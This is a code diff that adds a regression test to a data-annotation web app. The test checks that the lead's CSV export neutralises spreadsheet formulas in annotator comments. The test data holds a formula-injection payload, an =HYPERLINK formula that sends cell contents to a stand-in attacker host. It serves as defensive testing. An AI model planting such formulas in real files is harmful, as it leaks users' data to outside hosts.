@@ -200,3 +200,18 @@ def test_out_of_range_or_hostile_scores_are_a_400_naming_the_field(world, field,
     # what the judge chose is kept on the page that comes back
     if field != "language_identification":
         assert 'name="language_identification" value="other" checked' in page
+
+
+def test_lead_csv_does_not_hand_a_comment_to_the_spreadsheet_as_a_formula(world):
+    """Issue 15, finding 12: an annotator's comment reaches the lead's spreadsheet as text."""
+    lead = f.member("locale_lead", world["ar"], username="lead-ar")
+    from parley.collection.services import task_claim_next, task_submit_judgment, task_submit_utterance
+
+    task_submit_utterance(task=task_claim_next(annotator=world["amal"]), annotator=world["amal"],
+                          annotated="أيقظني الساعة [time : الخامسة]")
+    task_submit_judgment(task=task_claim_next(annotator=world["badr"]), annotator=world["badr"], intent_score=2,
+                         slots_score=2, grammar_score=3, spelling_score=2, language_identification="target",
+                         comment='=HYPERLINK("http://evil.example/?"&A1,"more")')
+    text = login(lead).get(f"/collect/lead/{world['campaign'].pk}/export.csv").content.decode()
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["comment"] == '\'=HYPERLINK("http://evil.example/?"&A1,"more")'
